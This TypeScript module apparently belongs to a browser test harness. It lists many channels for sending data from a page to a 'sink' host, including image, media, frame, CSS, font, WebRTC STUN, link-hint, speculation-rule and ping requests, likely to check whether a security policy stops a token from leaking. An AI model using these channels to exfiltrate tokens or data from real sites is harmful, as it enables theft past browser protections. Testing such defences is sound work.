/** To send out by what a page loads, and by hints to the browser. */
import type { Given, Way } from '../way.ts'
import { freshRealm, sinkUrl, wait } from './page.ts'
import { limited, link, put, styled, way } from './sending.ts'

const rtc = (realm: Window & typeof globalThis, { id, sink }: Given) => {
  const peer = new realm.RTCPeerConnection({ iceServers: [{ urls: `stun:${id}.${sink.host}:${sink.port}` }] })
  peer.createDataChannel('a')
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer))
}

export const media: Way[] = [
  way('image', 'a request by an image', (given) => put('img', { src: sinkUrl(given) })),
  way('srcset', 'a request by srcset', (given) => put('img', { srcset: `${sinkUrl(given)} 2x` })),
  way('svg-image', 'a request by an image in SVG', (given) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', sinkUrl(given))
    svg.append(image)
    document.body.append(svg)
  }),
  way('video', 'a request by a film', (given) =>
    put('video', { src: sinkUrl(given), poster: sinkUrl(given), autoplay: '' }),
  ),
  way('audio', 'a request by a sound', (given) => put('audio', { src: sinkUrl(given), autoplay: '' })),
  way('object', 'a request by <object>', (given) => put('object', { data: sinkUrl(given) })),
  way('embed', 'a request by <embed>', (given) => put('embed', { src: sinkUrl(given) })),
  way('frame', 'a request by a frame', (given) => put('iframe', { src: sinkUrl(given) })),
  way('frame-of-confirm', 'a frame of the confirm origin that goes on to it', async (given) => {
    const frame = put('iframe', { src: `${given.confirm}/api/confirm/page` }) as HTMLIFrameElement
    await wait(500)
    if (frame.contentWindow) frame.contentWindow.location = sinkUrl(given)
  }),
  way('webrtc', 'packets by WebRTC', (given) => rtc(window as never, given).catch(String)),
  limited(
    way('webrtc-fresh-realm', 'packets by WebRTC of a fresh realm', async (given) =>
      rtc(await freshRealm(), given).catch(String),
    ),
    'Chromium knows no policy for WebRTC; the token alone neither pays out nor changes a password',
  ),
  styled('background', (url) => `.sends{background:url(${url})}`),
  styled('cursor', (url) => `.sends{cursor:url(${url}),auto;list-style-image:url(${url})}`),
  way('css-font', 'a request by a font', (given) => {
    const font = new FontFace('sends', `url(${sinkUrl(given)})`)
    return font.load().catch(String)
  }),
  way('css-import', 'a request by @import', (given) => {
    const style = put('style', {}, document.head)
    style.textContent = `@import url(${sinkUrl(given)});`
  }),
]

export const hints: Way[] = [
  link('dns-prefetch'),
  link('preconnect'),
  link('prefetch'),
  link('preload', { as: 'image' }),
  link('modulepreload'),
  link('prerender'),
  link('icon'),
  link('manifest'),
  link('stylesheet'),
  way('speculation', 'a prerendered page by speculation rules', (given) => {
    const script = document.createElement('script')
    script.type = 'speculationrules'
    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [sinkUrl(given)] }] })
    document.head.append(script)
  }),
  way('ping', 'the ping of a link to the own origin', (given) => {
    const anchor = put('a', { href: '#here', ping: sinkUrl(given) })
    anchor.click()
  }),
]
